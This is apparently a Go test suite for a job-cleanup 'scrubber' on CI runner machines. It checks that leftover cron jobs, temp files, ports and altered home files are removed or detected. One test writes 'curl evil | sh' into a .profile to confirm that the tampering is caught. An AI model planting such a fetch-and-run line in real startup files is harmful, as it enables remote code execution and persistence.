package scrub

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"k8s.io/utils/clock"

	"github.com/remuda-run/remuda/agent"
	"github.com/remuda-run/remuda/internal/boundary"
)

// otherUser is a user that has no process and no file on any machine of these tests, nor another run of them: all
// of its processes are killed. The next uid is one that it may give away.
var otherUser = 54321_0000 + 4*(os.Getpid()%1_000_000)

// place is an instance folder and a file system around it, in which jobs of otherUser were.
func place(t *testing.T) (s Scrubber, put func(owner int, path, text string)) {
	t.Helper()
	if os.Getuid() != 0 {
		t.Skip("only root cleans up after another user")
	}
	top := t.TempDir()
	put = func(owner int, path, text string) {
		t.Helper()
		path = filepath.Join(top, path)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := errors.Join(os.WriteFile(path, []byte(text), 0o644), os.Lchown(path, owner, owner)); err != nil {
			t.Fatal(err)
		}
	}
	b, err := boundary.Open(fmt.Sprintf("test-%d", os.Getpid()), os.Args[0])
	if err != nil {
		t.Skipf("level full is refused here: %v", err)
	}
	put(0, "tmp/instance/state", "x")
	put(otherUser, "tmp/instance/scratch/left", "x")
	return Scrubber{
		InstanceID: t.Name() + "-none", Root: filepath.Join(top, "tmp/instance"), Fresh: []Folder{fresh("scratch")}, Clock: clock.RealClock{}, Boundary: b,
		Levels: map[string]Level{"none": None, "full": Full, "once": Terminate},
		User:   &User{UID: otherUser, Name: "otherUser", Home: "/people/otherUser"}, System: top,
	}, put
}

// fresh is a folder of otherUser that each run gets new.
func fresh(path string) Folder {
	return Folder{Path: path, Mode: 0o700, UID: otherUser, GID: otherUser}
}

func exists(path string) bool { _, err := os.Lstat(path); return err == nil }

// H42: what each level removes. Nothing of anyone else goes at any of them.
func TestScrub_Levels_H42(t *testing.T) {
	for class, want := range map[string]struct{ gone, err bool }{
		"none": {}, "workspace": {}, "full": {gone: true}, "once": {err: true},
	} {
		t.Run(class, func(t *testing.T) {
			s, put := place(t)
			put(otherUser, "people/otherUser/.profile", "of the image")
			if err := s.TakeBaseline(t.Context()); err != nil {
				t.Fatal(err)
			}
			theirs := []string{
				"tmp/a", "var/tmp/b", "dev/shm/c", "var/spool/cron/crontabs/otherUser", "var/spool/cron/atjobs/d", fmt.Sprintf("run/user/%d/e", otherUser),
				"people/otherUser/.config/systemd/user/f.service", "tmp/roots-/g",
			}
			for _, path := range theirs {
				put(otherUser, path, "x")
			}
			put(0, "var/lib/systemd/linger/otherUser", "")
			kept := []string{"tmp/roots-/keep", "var/spool/cron/crontabs/root", "etc/passwd", "people/otherUser/.bashrc"}
			for _, path := range kept {
				put(0, path, "x")
			}
			err := s.Scrub(t.Context(), class)
			if (err != nil) != want.err || errors.Is(err, agent.ErrUsedUp) != want.err {
				t.Fatalf("Scrub = %v, want ErrUsedUp: %v", err, want.err)
			}
			for _, path := range append(theirs, "var/lib/systemd/linger/otherUser") {
				if exists(filepath.Join(s.System, path)) == want.gone {
					t.Errorf("%s is there: %v, want %v", path, !want.gone, want.gone)
				}
			}
			for _, path := range append(kept, "people/otherUser/.profile", "tmp/instance/state") {
				if !exists(filepath.Join(s.System, path)) {
					t.Errorf("%s is gone, and was not the run's", path)
				}
			}
			if got := exists(filepath.Join(s.Root, "scratch/left")); got == (class == "workspace" || class == "full") {
				t.Errorf("the instance's home holds the run's file: %v", got)
			}
		})
	}
}

// H42: timed jobs go before any other file. A process of theirs that began while those are removed, wrote behind the
// removal and ended would be seen by no one.
func TestScrub_TimedJobsFirst_H42(t *testing.T) {
	s, put := place(t)
	if err := s.TakeBaseline(t.Context()); err != nil {
		t.Fatal(err)
	}
	put(otherUser, "var/spool/cron/crontabs/otherUser", "* * * * * x")
	put(0, "var/lib/systemd/linger/otherUser", "")
	s.Fresh = []Folder{fresh("no\x00folder")} // ends the removal where it begins
	if err := s.Scrub(t.Context(), "full"); !errors.Is(err, syscall.EINVAL) {
		t.Fatalf("Scrub = %v, want that a folder cannot be replaced", err)
	}
	for _, path := range []string{"var/spool/cron/crontabs/otherUser", "var/lib/systemd/linger/otherUser"} {
		if exists(outside(s).path(path)) {
			t.Errorf("%s is still there", path)
		}
	}
}

// An instance of a process fleet that ended without a cleanup may have left timed jobs. The next instance on the computer removes them
// before its first run, and serves none if their end cannot be proved.
func TestTakeBaseline_TimedJobsOfAnEarlierInstance_Review_S0(t *testing.T) {
	s, put := place(t)
	timed := []string{"var/spool/cron/crontabs/otherUser", "var/spool/cron/atjobs/a0001"}
	leave := func() {
		for _, path := range timed {
			put(otherUser, path, "* * * * * x")
		}
		put(0, "var/lib/systemd/linger/otherUser", "")
	}
	leave()
	if err := s.TakeBaseline(t.Context()); err != nil {
		t.Fatal(err)
	}
	for _, path := range append(timed, "var/lib/systemd/linger/otherUser") {
		if exists(outside(s).path(path)) {
			t.Errorf("%s is still there", path)
		}
	}
	leave()
	if err := Forget(s.Root); err != nil {
		t.Fatal(err)
	}
	s.Boundary = boundary.None()
	if err := s.TakeBaseline(t.Context()); err == nil || !strings.Contains(err.Error(), "cron or at may have started jobs") {
		t.Errorf("TakeBaseline without control groups = %v, want that the end of timed jobs cannot be proved", err)
	}
}

// With ids of other users, a timed job that has removed its own file counts too.
func TestJudgeServices_SubordinateIDs_Review_S0(t *testing.T) {
	s, put := place(t)
	put(0, "etc/subuid", "otherUser:100000:65536\n")
	cron := filepath.Join(t.TempDir(), "cron") // in the group of this test, which is not frozen
	if out, err := exec.Command("cp", "/bin/sleep", cron).CombinedOutput(); err != nil {
		t.Fatal(string(out))
	}
	if err := s.judgeServices(false); err != nil {
		t.Skipf("a timer runs here: %v", err)
	}
	cmd := exec.Command(cron, "600")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _, _ = cmd.Process.Kill(), cmd.Wait() })
	for name, b := range map[string]boundary.Boundary{"control group": s.Boundary, "none": boundary.None()} {
		s.Boundary = b
		if err := s.judgeServices(false); err == nil || !strings.Contains(err.Error(), "cron or at may have started jobs") {
			t.Errorf("%s: judgeServices = %v, want that the end of timed jobs cannot be proved", name, err)
		}
	}
}

// H42: a file of root's that a job left in the home of its user, or where everyone may read it, does not
// reach the next run. What was there before stays, and what is private to a service does.
func TestScrub_RootsFiles_H42(t *testing.T) {
	s, put := place(t)
	s.Whole = true
	mode := func(path string, m os.FileMode) {
		t.Helper()
		if err := os.Chmod(filepath.Join(s.System, path), m); err != nil {
			t.Fatal(err)
		}
	}
	put(otherUser, "people/otherUser/.profile", "of the image")
	put(0, "people/otherUser/.ssh/authorized_keys", "of the image")
	put(0, "var/tmp/cache", "of the image")
	put(0, "tmp/socket", "of a service")
	home := filepath.Join(s.System, "people/otherUser")
	if err := os.Lchown(home, otherUser, otherUser); err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{"tmp", "var/tmp", "dev/shm"} {
		open(t, s, dir, 0o777|os.ModeSticky)
	}
	if err := s.recordWritable(t.Context()); err != nil {
		t.Fatal(err)
	}
	was := Baseline{Boot: "this"}
	clean := func() error { // a scrub of all would be one of this computer
		known, rerr := s.readWritable(was)
		user, uerr := s.User.Lookup(s.System)
		found, cerr := known.Compare(t.Context(), user)
		if err := errors.Join(rerr, uerr, cerr); err != nil {
			return err
		}
		return errors.Join(outside(s).removeUsers(), s.removeNew(user, found))
	}
	gone := []string{
		"people/otherUser/.bashrc", "people/otherUser/.ssh/rc", "people/otherUser/.cache/deep/file", "tmp/build/deep/file", "tmp/file", "dev/shm/file",
	}
	kept := []string{
		"people/otherUser/.profile", "people/otherUser/.ssh/authorized_keys", "var/tmp/cache", "tmp/socket", "tmp/private/file", "etc/passwd",
		"tmp/instance/state",
	}
	for _, path := range append([]string{"tmp/private/file", "etc/passwd"}, gone...) {
		put(0, path, "x")
	}
	mode("tmp/private", 0o700)
	if err := clean(); err != nil {
		t.Fatalf("clean = %v", err)
	}
	for _, path := range gone {
		if exists(filepath.Join(s.System, path)) {
			t.Errorf("%s reaches the next run", path)
		}
	}
	for _, path := range kept {
		if !exists(filepath.Join(s.System, path)) {
			t.Errorf("%s is gone, and was not the run's", path)
		}
	}
	s.Whole = false
	put(0, "tmp/other", "of another user of the computer")
	if err := clean(); err != nil || !exists(filepath.Join(s.System, "tmp/other")) {
		t.Errorf("on a computer shared with others clean = %v, and left tmp/other: %v", err, exists(filepath.Join(s.System, "tmp/other")))
	}
	put(0, "people/otherUser/.ssh/authorized_keys", "of the job's")
	if err := clean(); err == nil || !strings.Contains(err.Error(), "authorized_keys was changed") {
		t.Errorf("clean after a change of root's file = %v", err)
	}
}

// H42: what a job put beside the runner program goes, at every level that removes files; the program, and the
// folders that are emptied, stay.
func TestScrub_BesideTheProgram_H42(t *testing.T) {
	for level, gone := range map[string]bool{"none": false, "workspace": true, "full": true} {
		t.Run(level, func(t *testing.T) {
			s, put := place(t)
			s.Program, s.Fresh = "runner", append(s.Fresh, fresh("runner/_work"))
			put(0, "tmp/instance/runner/bin/Runner.Listener", "x")
			put(0, "tmp/instance/runner/config.sh", "x")
			put(otherUser, "tmp/instance/runner/_work/left", "x")
			left := []string{".env", "left", "deep/left"}
			for _, name := range left {
				put(otherUser, "tmp/instance/runner/"+name, "x")
			}
			for _, dir := range []string{"_work", "deep"} {
				if err := os.Lchown(filepath.Join(s.Root, "runner", dir), otherUser, otherUser); err != nil {
					t.Fatal(err)
				}
			}
			if err := s.Scrub(t.Context(), level); err != nil {
				t.Fatalf("Scrub = %v", err)
			}
			for _, name := range append(left, "_work/left") {
				if exists(filepath.Join(s.Root, "runner", name)) == gone {
					t.Errorf("%s is gone: %v, want %v", name, !gone, gone)
				}
			}
			for _, name := range []string{"bin/Runner.Listener", "config.sh", "_work"} {
				if !exists(filepath.Join(s.Root, "runner", name)) {
					t.Errorf("%s is gone", name)
				}
			}
		})
	}
}

// H42: without a level in the configuration everything of a run goes where that can be known.
func TestScrub_DefaultLevel_H42(t *testing.T) {
	user := &User{UID: otherUser}
	for _, tt := range []struct {
		scrubber Scrubber
		want     Level
	}{
		{Scrubber{Whole: true, User: user}, Full},
		{Scrubber{Whole: true}, Workspace},
		{Scrubber{User: user}, Workspace},
		{Scrubber{Whole: true, User: user, Levels: map[string]Level{"small": None}}, None},
		{Scrubber{Whole: true, User: user, Levels: map[string]Level{"small": ""}}, Full},
	} {
		if got := tt.scrubber.level("small"); got != tt.want {
			t.Errorf("level of %+v = %s, want %s", tt.scrubber, got, tt.want)
		}
	}
}

// H42: a file of the image that a job changed cannot be restored, nor can the job hide it.
func TestScrub_ChangedHome_NotClean_H42(t *testing.T) {
	s, put := place(t)
	put(otherUser, "people/otherUser/.profile", "of the image")
	if err := s.TakeBaseline(t.Context()); err != nil {
		t.Fatal(err)
	}
	was, err := os.Stat(filepath.Join(s.System, "people/otherUser/.profile"))
	if err != nil {
		t.Fatal(err)
	}
	profile := filepath.Join(s.System, "people/otherUser/.profile")
	for _, text := range []string{"curl evil | sh", "by the image"} { // the second is as long as the first was
		for changed := changedAt(was.Sys().(*syscall.Stat_t)); changed == changedAt(was.Sys().(*syscall.Stat_t)); { // the kernel's clock has ticks
			if err := errors.Join(os.WriteFile(profile, []byte(text), 0o644), os.Chtimes(profile, was.ModTime(), was.ModTime())); err != nil {
				t.Fatal(err)
			}
			now, err := os.Stat(profile)
			if err != nil {
				t.Fatal(err)
			}
			changed = changedAt(now.Sys().(*syscall.Stat_t))
		}
		if err := s.Scrub(t.Context(), "full"); !errors.Is(err, ErrNotClean) || !strings.Contains(err.Error(), ".profile was changed") {
			t.Errorf("Scrub = %v, want ErrNotClean because of .profile", err)
		}
	}
}

// H42: a port on which something listens after the run, and not before, is seen.
func TestPorts_SeesListeners_H42(t *testing.T) {
	s := Scrubber{Whole: true, User: &User{UID: os.Getuid()}}
	for _, address := range []string{"127.0.0.1:0", "[::1]:0"} {
		l, err := net.Listen("tcp", address)
		if err != nil {
			t.Logf("not tried: listen on %s: %v", address, err)
			continue
		}
		want := strings.NewReplacer("[", "", "]", "").Replace(l.Addr().String())
		for _, whole := range []bool{true, false} {
			s.Whole = whole
			if got, err := s.ports(); err != nil || !slices.Contains(got, want) {
				t.Errorf("ports = %v, %v, want %s among them", got, err, want)
			}
		}
		if err := l.Close(); err != nil {
			t.Fatal(err)
		}
		if got, err := s.ports(); err != nil || slices.Contains(got, want) {
			t.Errorf("ports = %v, %v, want %s gone", got, err, want)
		}
	}
}

// A baseline with more space, or fewer ports, than there are now.
func TestCheck_AgainstBaseline_H42(t *testing.T) {
	s := Scrubber{Root: t.TempDir(), Whole: true}
	for range 20 { // tests of other packages open ports meanwhile
		now, err := s.measure(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		now.Containers = nil
		if err = s.check(now); err != nil && !strings.Contains(err.Error(), "listens") {
			t.Fatalf("check of an unchanged machine = %v", err)
		}
		was := now.Disks[s.Root]
		var full, many error
		now.Disks[s.Root] = space{3 * was.Bytes, was.Inodes}
		full = s.check(now)
		now.Disks[s.Root] = space{was.Bytes, 3*was.Inodes + 1}
		many = s.check(now)
		if full == nil || many == nil {
			break
		}
		if strings.HasPrefix(full.Error(), "disk of "+s.Root+": ") && strings.Contains(full.Error(), "MiB are free") && strings.Contains(many.Error(), "inodes are free") {
			return
		}
	}
	t.Error("check never reported a disk with two thirds of its space or inodes newly used")
}
